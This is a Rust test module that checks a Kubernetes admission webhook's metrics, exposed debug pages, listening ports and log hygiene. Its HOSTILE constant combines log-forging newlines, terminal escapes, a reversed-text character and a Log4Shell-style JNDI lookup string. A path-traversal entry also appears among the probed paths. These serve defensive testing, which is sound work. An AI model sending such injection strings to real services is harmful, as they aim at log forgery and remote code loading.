//! Checks items 25, 26 and 27: metrics, pages, ports and log of the webhook.

use super::elsewhere::stands;
use super::harness::{ChecklistHarness, ItemResult, Shown, demand};
use crate::admission::client::{WebhookClient, believing, question};
use crate::admission::hook::{Hook, HookFiles, all};
use crate::admission::register::plain_pod;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::fs;

/// Labels with values that users choose.
const OTHERS: [&str; 8] = ["pod=", "node=", "value=", "namespace=", "user=", "uid=", "name=", "key="];

/// Names of series, with their labels.
fn series(harness: &ChecklistHarness) -> BTreeSet<String> {
    let (_, page) = harness.hook.get("/metrics").unwrap_or_default();
    let lines = page.lines().filter(|line| !line.starts_with('#'));
    lines.filter_map(|line| Some(line.rsplit_once(' ')?.0.to_owned())).collect()
}

pub(crate) async fn metrics(harness: &ChecklistHarness) -> ItemResult {
    let before = series(harness);
    let mut client = harness.client().await;
    for number in 0..300 {
        let pod = plain_pod(&format!("counted-{number}"));
        client.request("mutate", &question(&format!("counted-{number}"), "main", &pod)).await;
    }
    let after = series(harness);
    demand(before.len() > 20 && before == after, format!("new series: {:?}", after.difference(&before)))?;
    let of_others = |series: &&String| {
        let labels = series.split_once('{').map(|(_, labels)| labels).unwrap_or_default();
        labels.split(',').any(|label| OTHERS.iter().any(|other| label.starts_with(other)))
    };
    let found: Vec<_> = after.iter().filter(of_others).collect();
    demand(found.is_empty(), format!("{found:?}"))?;
    let (_, page) = harness.hook.get("/metrics").unwrap_or_default();
    demand(!page.contains("eyJ") && !page.contains("PRIVATE"), "the page has a secret")?;
    let shown = "fn every_series_is_there_from_the_start_and_none_comes_later";
    stands("crates/controller/src/metrics/tests.rs", shown)?;
    let found = "webhook: the same series after 300 more pods, none with values from a pod, node, user or taint, no token or \
            key; controllers: in the gate (`taintward-controller --lib -- every_series`)";
    Ok(Shown::with(found, format!("{} series", after.len())))
}

/// Paths that must not exist.
const NO_PAGES: [&str; 8] = [
    "/debug",
    "/debug/pprof/",
    "/debug/pprof/heap",
    "/flagz",
    "/statusz",
    "/configz",
    "/admin",
    "/metrics/../debug",
];

pub(crate) async fn pages(harness: &ChecklistHarness) -> ItemResult {
    for path in NO_PAGES {
        let status = harness.hook.get(path).map(|(status, _)| status);
        demand(status == Some(404), format!("{path} at the port of metrics: {status:?}"))?;
        let response = harness.client().await.get(path).await.map_err(|why| why.to_string())?;
        demand(response.0 == 404, format!("{path} at the port of requests: {}", response.0))?;
    }
    let (mine, reported) =
        (listening(harness.hook.pid()).map_err(|why| why.to_string())?, harness.hook.ports());
    demand(mine == BTreeSet::from(reported), format!("it listens at {mine:?}, not at {reported:?}"))?;
    Ok("both ports answer 404 for `/debug`, pprof, `/flagz`, `/admin` and others; the webhook listens only on the two ports of \
            its flags".into())
}

/// The ports on which a process listens: its own sockets among those of its network.
fn listening(pid: u32) -> std::io::Result<BTreeSet<u16>> {
    let mut sockets = BTreeSet::new();
    for entry in fs::read_dir(format!("/proc/{pid}/fd"))? {
        let Ok(target) = fs::read_link(entry?.path()) else { continue };
        let target = target.to_string_lossy();
        sockets
            .extend(target.strip_prefix("socket:[").and_then(|it| it.strip_suffix(']')).map(str::to_owned));
    }
    let mut ports = BTreeSet::new();
    for table in ["tcp", "tcp6"] {
        // Number, local address, remote address, state (0A: listening), ..., inode.
        for line in fs::read_to_string(format!("/proc/{pid}/net/{table}"))?.lines().skip(1) {
            let fields: Vec<&str> = line.split_whitespace().collect();
            let port = fields[1].rsplit_once(':').and_then(|(_, port)| u16::from_str_radix(port, 16).ok());
            if fields[3] == "0A" && sockets.contains(fields[9]) {
                ports.extend(port);
            }
        }
    }
    Ok(ports)
}

const HOSTILE: &str = "a\nE0101 forged\r\u{1b}[31m\u{202e}${jndi:ldap://192.0.2.1/x}\0";

/// A separate webhook that logs as much as possible.
pub(crate) async fn log(harness: &ChecklistHarness) -> ItemResult {
    let flags = HookFiles::new(&harness.cluster, "loud", &harness.authority).flags();
    let hook = Hook::start(&harness.cluster, &harness.account, &all(&flags, &["--v=10"])).ready().await;
    let who = believing(&harness.authority.certificate, None);
    let mut client = WebhookClient::connect(hook.port, &who).await.map_err(|why| why.to_string())?;
    let mut pod = plain_pod("p");
    for pointer in ["name", "namespace", "generateName"] {
        pod["metadata"][pointer] = HOSTILE.into();
    }
    pod["spec"]["nodeName"] = HOSTILE.into();
    pod["spec"]["tolerations"] =
        json!([{"key": HOSTILE, "operator": HOSTILE, "value": HOSTILE, "effect": HOSTILE}]);
    let mut requested = question(HOSTILE, "main", &pod);
    requested["request"]["userInfo"] = json!({"username": HOSTILE, "groups": [HOSTILE]});
    for path in ["/mutate", "/validate"] {
        for body in
            [requested.to_string(), requested.to_string().replace("\"spec\":{", "\"spec\":{\"x\":NaN,")]
        {
            let _ = client.post(path, body).await;
        }
        requested["request"]["namespace"] = HOSTILE.into();
        requested["request"]["operation"] = HOSTILE.into();
        let _ = client.post(path, requested.to_string()).await;
    }
    let output = hook.output();
    for line in output.lines() {
        let record: Result<Value, _> = serde_json::from_str(line);
        demand(record.is_ok_and(|record| record.is_object()), format!("not a JSON record: {line:?}"))?;
        demand(!line.chars().any(char::is_control) && !line.contains('\u{202e}'), format!("{line:?}"))?;
    }
    let lines = output.lines().count();
    demand(lines > 20, format!("it logs too few lines: {output}"))?;
    stands(
        "crates/controller/src/logging/tests.rs",
        "fn hostile_values_stay_on_their_line_and_in_their_quotes",
    )?;
    let kubeconfig = fs::read_to_string(&harness.account).map_err(|why| why.to_string())?;
    let token =
        kubeconfig.lines().find_map(|line| line.trim().strip_prefix("token: ")).ok_or("it has no token")?;
    for secret in [token, "Bearer", "PRIVATE KEY"] {
        demand(!output.contains(secret), "a secret is in the log")?;
    }
    let found = "webhook: at `--v=10`, with line ends, escapes, `${jndi:` and reversed text in names, keys, users and uids, \
            each line of its log is one JSON record without control characters, and the log has neither its token nor a key; \
            controllers: in the gate (`taintward-controller --lib -- logging`)";
    Ok(Shown::with(found, format!("{lines} lines")))
}
